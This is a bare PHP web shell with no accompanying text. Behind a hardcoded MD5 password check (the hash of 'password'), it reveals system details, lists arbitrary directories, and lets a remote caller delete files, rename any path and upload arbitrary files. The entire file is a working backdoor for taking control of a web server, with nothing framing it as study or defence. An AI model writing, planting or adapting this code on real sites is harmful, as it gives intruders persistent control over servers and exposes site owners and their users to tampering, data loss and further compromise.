<?php
if (md5($_POST['pw']) !== '5f4dcc3b5aa765d61d8327deb882cf99') {
    exit;
}
echo php_uname();
$d = isset($_GET['d']) ? $_GET['d'] : '.';
foreach (scandir($d) as $f) {
    echo htmlspecialchars($f), "\n";
}
if (isset($_GET['rm'])) {
    unlink($d . '/' . $_GET['rm']);
}
if (isset($_POST['from'])) {
    rename($_POST['from'], $_POST['to']);
}
if (isset($_FILES['u'])) {
    move_uploaded_file($_FILES['u']['tmp_name'], $d . '/' . basename($_FILES['u']['name']));
}
